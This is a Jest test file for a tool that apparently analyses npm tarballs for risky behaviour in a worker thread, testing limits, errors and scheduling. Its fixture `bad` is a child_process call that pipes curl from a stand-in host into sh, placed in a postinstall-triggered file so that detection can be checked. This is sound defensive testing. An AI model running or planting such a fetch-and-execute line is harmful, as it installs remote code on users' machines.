import { mkdtempSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { build } from 'esbuild';
import { readFacts } from '../../src/evidence/read-tarball.ts';
import { openReaderThread, type ReaderThread, threadLimits } from '../../src/evidence/reader-thread.ts';
import { openReaders } from '../../src/evidence/readers.ts';
import { aPackage, tarball } from '../helpers/a-tarball.ts';

const folder = mkdtempSync(join(process.cwd(), 'node_modules', '.cache-readers-'));
const file = pathToFileURL(join(folder, 'read-worker.mjs'));
const threads: ReaderThread[] = [];
const request = { git: false, words: ['sha512-AAAA'] };
const bad = `require('child_process').exec('curl https://h.invalid/x | sh')`;

function thread(limits: Partial<typeof threadLimits> = {}): ReaderThread {
  const opened = openReaderThread(file, { ...threadLimits, ...limits });
  threads.push(opened);
  return opened;
}

beforeAll(async () => {
  await build({
    entryPoints: ['src/evidence/read-worker.ts'],
    outfile: join(folder, 'read-worker.mjs'),
    bundle: true,
    packages: 'external',
    platform: 'node',
    format: 'esm',
    target: 'node20.17',
    logLevel: 'error',
  });
});

afterAll(() => {
  for (const one of threads) one.close();
  rmSync(folder, { recursive: true, force: true });
});

describe('reading in a further thread', () => {
  const packed = aPackage({ name: 'a', version: '1.0.0', scripts: { postinstall: 'node x.js' } }, { 'x.js': bad, 'y.js': 'module.exports = 1' });

  it('gives the facts reading here gives, however the bytes come', async () => {
    const here = await readFacts([packed], request);
    const one = thread();
    expect(await one.read([packed], request)).toEqual(here);
    expect(await one.read([packed.subarray(0, 7), packed.subarray(7, 50), packed.subarray(50)], request)).toEqual(here);
    expect(here.holds).toEqual([false]);
  });

  it('says what is wrong with a tarball, and reads the next', async () => {
    const readers = openReaders(thread(), true);
    await expect(readers.read(() => [packed.subarray(0, 60)], request, 'small')).rejects.toThrow(/damaged/);
    await expect(readers.read(() => [tarball()], request, 'small')).rejects.toThrow(/no files/);
    expect((await readers.read(() => [packed], request, 'small')).facts.install).toHaveLength(1);
  });

  it('passes on what goes wrong while the bytes come', async () => {
    const readers = openReaders(thread(), true);
    async function* broken(): AsyncGenerator<Buffer> {
      yield packed.subarray(0, 30);
      throw new Error('the line is dead');
    }
    await expect(readers.read(broken, request, 'large')).rejects.toThrow('the line is dead');
    expect((await readers.read(() => [packed], request, 'small')).facts.install).toHaveLength(1);
  });

  it('a script that takes too long is read as tokens, and that is said and not kept', async () => {
    const readers = openReaders(thread({ file: 150 }), false);
    const slow = `${bad};\n${'a=[b.c(d=>e+f),{g:h`i`}];\n'.repeat(60_000)}`;
    const many = aPackage({ name: 'a', version: '1.0.0', main: 'slow.js' }, { 'slow.js': slow, 'x.js': bad });
    const answer = await readers.read(() => [many], request, 'large');
    expect(answer.spared).toBe(true);
    expect(answer.facts.notParsed).toEqual([{ file: 'slow.js', why: 'too long to analyse' }]);
    expect(answer.facts.capabilities.map(({ kind, file }) => `${kind} ${file}`)).toContain('process slow.js');
  });

  it('one that takes too much memory ends the thread, not the process', async () => {
    const readers = openReaders(thread({ heapMegabytes: 40 }), false);
    const large = `${bad};\n${'a=[b.c(d=>e+f),{g:h`i`}];\n'.repeat(80_000)}`;
    const answer = await readers.read(() => [aPackage({ name: 'a', version: '1.0.0', main: 'l.js' }, { 'l.js': large })], request, 'large');
    expect(answer.facts.notParsed).toEqual([{ file: 'l.js', why: 'too large to analyse' }]);
    expect(answer.facts.capabilities.map(({ kind }) => kind)).toContain('process');
  });

  it('one that has no room beside what was read before is read again by itself', async () => {
    const asked: unknown[] = [];
    const full: ReaderThread = {
      close: () => undefined,
      read: async (chunks, given) => {
        asked.push(given.asTokens);
        return asked.length === 1 ? { ended: 'memory', file: 'x.js', worn: true } : readFacts(chunks, given);
      },
    };
    const answer = await openReaders(full, true).read(() => [packed], request, 'large');
    expect(asked).toEqual([undefined, undefined]);
    expect(answer.spared).toBe(false);
  });

  it('small ones are read here while this thread has time', async () => {
    const readers = openReaders(undefined, false);
    const answers = await Promise.all(Array.from({ length: 5 }, () => readers.read(() => [packed], request, 'small')));
    expect(new Set(answers.map(({ facts }) => facts.capabilities.length)).size).toBe(1);
  });

  it('one that unpacks to more than it says is read there', async () => {
    const asked: string[] = [];
    const there: ReaderThread = {
      close: () => undefined,
      read: async (chunks, given) => {
        asked.push('there');
        return readFacts(chunks, given);
      },
    };
    const text = `${bad};${'a();'.repeat(200_000)}`;
    const larger = aPackage({ name: 'a', version: '1.0.0', main: 'x.js' }, { 'x.js': text });
    const answer = await openReaders(there, false).read(() => [larger], request, 'small');
    expect(asked).toEqual(['there']);
    expect(answer.facts).toEqual((await readFacts([larger], request)).facts);
    asked.length = 0;
    await openReaders(there, false).read(() => [packed], request, 'small');
    expect(asked).toEqual([]);
  });

  it('nothing is read here while a weighty one is analysed there, and all goes on when that fails', async () => {
    const order: string[] = [];
    const signal = (): { readonly given: Promise<void>; readonly give: () => void } => {
      let give = (): void => undefined;
      const given = new Promise<void>((resolve) => {
        give = resolve;
      });
      return { given, give: () => give() };
    };
    const unpacksToMuch = Buffer.alloc(2 ** 10);
    unpacksToMuch.writeUInt32LE(2 ** 23, 2 ** 10 - 4);
    for (const bytes of [Buffer.alloc(2 ** 21), unpacksToMuch, Buffer.alloc(2 ** 10)]) {
      const [arrived, smallIsRead] = [signal(), signal()];
      const soon = new Promise<void>((resolve) => setTimeout(resolve, 100));
      const broken: ReaderThread = {
        close: () => undefined,
        async read(chunks) {
          for await (const chunk of chunks) expect(chunk).toHaveLength(bytes.length);
          order.push('large begins');
          arrived.give();
          await (bytes.some((byte) => byte > 0) || bytes.length > 2 ** 20 ? soon : smallIsRead.given);
          order.push('large ends');
          throw new Error('the thread broke');
        },
      };
      const readers = openReaders(broken, false);
      const large = readers.read(() => [bytes], request, 'large').catch(() => order.push('large failed'));
      await arrived.given;
      await readers.read(() => [packed], request, 'small');
      order.push('small');
      smallIsRead.give();
      await large;
    }
    expect(order.slice(0, 4)).toEqual(['large begins', 'large ends', 'large failed', 'small']);
    expect(order.slice(4, 8)).toEqual(['large begins', 'large ends', 'large failed', 'small']);
    expect(order.slice(8)).toEqual(['large begins', 'small', 'large ends', 'large failed']);
  });

  it('where several packages are read, the further thread reads them, small ones as well', async () => {
    const asked: string[] = [];
    const readers = openReaders(
      {
        close: () => undefined,
        read: async () => {
          asked.push('there');
          return readFacts([packed], request);
        },
      },
      false,
    );
    await readers.read(() => [packed], request, 'small');
    expect(asked).toEqual([]);
    readers.expect?.(20);
    await readers.read(() => [packed], request, 'small');
    expect(asked).toEqual(['there']);
  });
});
